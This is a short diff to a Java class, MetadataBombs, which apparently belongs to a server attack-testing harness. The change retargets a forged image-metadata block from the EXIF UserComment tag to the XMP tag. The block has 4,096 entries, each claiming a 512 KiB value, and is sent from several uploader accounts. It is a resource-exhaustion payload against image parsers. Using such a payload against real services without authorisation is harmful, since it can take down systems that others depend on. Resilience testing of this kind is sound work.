@@ -14,8 +14,11 @@ final class MetadataBombs implements Attack {
   private static final int UPLOADERS = 4;
   private static final int ENTRIES = 4_096;
   private static final int VALUE_BYTES = 512 << 10;
-  private static final int USER_COMMENT = 0x9286;
-  private static final int UNDEFINED = 7;
+
+  /** The tag of XMP, in which a server looks for places. */
+  private static final int XMP = 700;
+
+  private static final int BYTE = 1;
   private static final byte[] SIGNATURE = {(byte) 137, 'P', 'N', 'G', 13, 10, 26, 10};
 
   private Target.Account attacker = new Target.Account("", "");
@@ -82,7 +85,7 @@ final class MetadataBombs implements Attack {
     exif.put((byte) 'I').put((byte) 'I').putShort((short) 42).putInt(8);
     exif.putShort((short) ENTRIES);
     for (int i = 0; i < ENTRIES; i++) {
-      exif.putShort((short) USER_COMMENT).putShort((short) UNDEFINED);
+      exif.putShort((short) XMP).putShort((short) BYTE);
       exif.putInt(VALUE_BYTES).putInt(value);
     }
     return exif.array();
